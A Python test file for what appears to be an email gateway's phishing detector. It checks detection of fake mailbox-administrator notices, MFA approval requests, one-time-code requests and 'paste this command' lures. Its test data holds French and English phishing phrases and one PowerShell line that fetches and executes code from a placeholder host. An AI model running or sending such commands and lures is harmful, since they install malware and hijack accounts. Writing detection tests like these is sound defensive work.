"""Who speaks as the keeper of a mailbox, what a second factor is to be told, what is to be pasted."""

import pytest

from gateway.content.folding import fold_regions
from gateway.content.joint_facts import form_of
from gateway.content.signs import read_intent
from gateway.model.content_facts import AskKind, FormFlag, SignKind
from gateway.model.folded import Region
from gateway.model.texts import TextReading


def _reading(text: str) -> TextReading:
    return TextReading(folded=fold_regions([(Region.VISIBLE, text)], 100_000).folded)


@pytest.mark.parametrize(
    ("text", "is_keeper"),
    [
        ("Votre boîte aux lettres est pleine.", True),
        ("Votre session Windows sera désactivée faute d'activité.", True),
        ("Trois courriels retenus vous attendent.", True),
        ("Your mailbox is out of sync.", True),
        ("Mon ordinateur est plein de photos.", False),
        ("Votre messagerie a bloqué ma pièce jointe.", False),
        ("Votre contrat arrive à échéance.", False),
    ],
)
def test_keeper(text: str, is_keeper: bool) -> None:
    signs = read_intent(_reading(text).folded)[1]
    assert any(sign.kind is SignKind.KEEPER for sign in signs) is is_keeper


@pytest.mark.parametrize(
    ("text", "asked"),
    [
        ("Une notification Authenticator s'affichera : merci de l'approuver.", True),
        ("Merci d'accepter la demande de connexion.", True),
        ("Please approve the MFA prompt.", True),
        ("Choisissez Accepter.", True),
        ("N'acceptez jamais la demande de connexion d'un inconnu.", False),
        ("Merci d'approuver la demande d'achat.", False),
    ],
)
def test_approval(text: str, asked: bool) -> None:
    asks = read_intent(_reading(text).folded)[0]
    assert any(ask.kind is AskKind.APPROVAL for ask in asks) is asked


@pytest.mark.parametrize("text", ["Saisissez le code reçu par SMS.", "Saisissez le code envoyé par mail."])
def test_what_came_by_mail_is_not_sent_back(text: str) -> None:
    asks = read_intent(_reading(text).folded)[0]
    assert {ask.kind for ask in asks} == {AskKind.ONE_TIME_CODE}


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("Windows + R, puis Ctrl + V et Entrée", True),
        ("Open PowerShell and paste: iwr https://a.example/x | iex", True),
        ("Ouvrez PowerShell et collez Get-Service", False),
        ("Le raccourci Windows + R ouvre une fenêtre", False),
    ],
)
def test_command_to_paste(text: str, found: bool) -> None:
    assert (FormFlag.COMMAND_TO_PASTE in form_of(_reading(text), (), ())) is found


def test_hostile_command_text_is_cheap() -> None:
    text = "coller curl " * 20_000
    assert FormFlag.COMMAND_TO_PASTE not in form_of(_reading(text), (), ())
